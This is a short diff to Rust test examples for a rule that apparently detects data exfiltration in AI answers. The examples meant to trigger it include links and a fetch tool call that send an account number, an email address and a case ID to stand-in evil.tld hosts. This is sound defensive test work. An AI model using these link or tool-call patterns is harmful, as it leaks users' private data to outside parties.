@@ -39,7 +39,7 @@ rule! {
         fires: &[
             Example::answer("[More](https://collect.evil.tld/?q={{base64:account 40311775 of Anna Lind}})"),
             Example::json(r#"{"answer": "See https://evil.tld/a?x=1&mail=anna.lind%40proton.me", "contexts": [{"text": "Write to anna.lind@proton.me."}]}"#),
-            Example::json(r#"{"answer": "Sent.", "tool_calls": [{"name": "fetch", "arguments": {"url": "https://evil.tld/?id=HR-2039177b"}}], "messages": [{"role": "user", "content": "What of case HR-2039177b?"}]}"#),
+            Example::json(r#"{"answer": "Sent.", "tool_calls": [{"name": "fetch", "arguments": {"url": "https://evil.tld/?id=HR-203917"}}], "messages": [{"role": "user", "content": "What of case HR-203917?"}]}"#),
         ],
         ignores: &[
             Example::asked("Where do I learn to code?", "https://www.coursera.org/courses?query=introduction%20to%20coding%20for%20beginners"),
